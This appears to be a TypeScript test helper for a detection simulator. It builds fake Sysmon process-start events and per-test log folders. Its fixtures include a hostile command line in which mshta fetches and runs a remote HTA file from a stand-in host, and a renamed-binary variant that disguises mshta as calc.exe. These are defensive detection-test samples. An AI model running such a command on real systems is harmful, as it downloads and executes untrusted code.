import { afterEach, beforeEach } from "vitest";
import type { DecidedEvent } from "../../src/pipeline/simulate.ts";
import { folder } from "../support/logs.ts";

interface Fields {
  readonly Image: string;
  readonly CommandLine?: string;
  readonly [name: string]: string | undefined;
}

let at = 0;
/** A process start as Sysmon logs it. */
export const start = (fields: Fields, host = "pc-1", day = 1) =>
  JSON.stringify({
    SourceName: "Microsoft-Windows-Sysmon",
    EventID: 1,
    RecordNumber: ++at,
    Hostname: host,
    "@timestamp": `2024-05-${String(day).padStart(2, "0")}T10:00:00Z`,
    User: "CORP\\ann",
    IntegrityLevel: "Medium",
    ParentImage: "C:\\Windows\\explorer.exe",
    CommandLine: fields.Image,
    OriginalFileName: fields.Image.split("\\").at(-1),
    ProcessGuid: `{${String(at).padStart(8, "0")}-0000-0000-0000-000000000000}`,
    ...fields,
  });

export const SYSTEM32 = "C:\\Windows\\System32";
export const NOTEPAD = { Image: `${SYSTEM32}\\notepad.exe` };
export const MSHTA = {
  Image: `${SYSTEM32}\\mshta.exe`,
  CommandLine: "mshta.exe https://files.example.net/a.hta",
  OriginalFileName: "MSHTA.EXE",
};
export const RENAMED = { ...MSHTA, Image: "C:\\Users\\ann\\calc.exe" };

/** A folder of its own for each test of the file, and a log in it. */
export function eachInItsFolder() {
  let dir = folder();
  beforeEach(() => {
    dir = folder();
    at = 0;
  });
  afterEach(() => dir.remove());
  const write = (name: string, text: string) => dir.write(name, text);
  return {
    write,
    path: () => dir.path,
    log: (...lines: readonly string[]) => write("log.ndjson", `${lines.join("\n")}\n`),
  };
}

/** What `simulate --format ndjson` wrote. */
export const decided = (out: string) =>
  out
    .split("\n")
    .filter(Boolean)
    .map((line) => JSON.parse(line) as DecidedEvent);
